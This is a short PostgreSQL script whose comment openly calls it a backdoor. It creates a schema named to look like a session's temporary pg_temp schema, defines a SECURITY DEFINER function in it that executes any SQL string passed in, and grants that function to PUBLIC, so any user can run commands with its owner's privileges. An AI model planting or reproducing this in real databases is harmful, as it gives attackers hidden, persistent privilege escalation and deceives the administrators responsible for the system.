CREATE FUNCTION fn_note() RETURNS integer LANGUAGE sql AS 'SELECT 1';
-- A schema named like a session's temporary one, holding a SECURITY DEFINER backdoor.
SET allow_system_table_mods = on;
CREATE SCHEMA pg_temp_x;
RESET allow_system_table_mods;
CREATE FUNCTION pg_temp_x.run(q text) RETURNS void LANGUAGE plpgsql SECURITY DEFINER
  AS $$BEGIN EXECUTE q; END$$;
GRANT USAGE ON SCHEMA pg_temp_x TO PUBLIC;
GRANT EXECUTE ON FUNCTION pg_temp_x.run(text) TO PUBLIC;
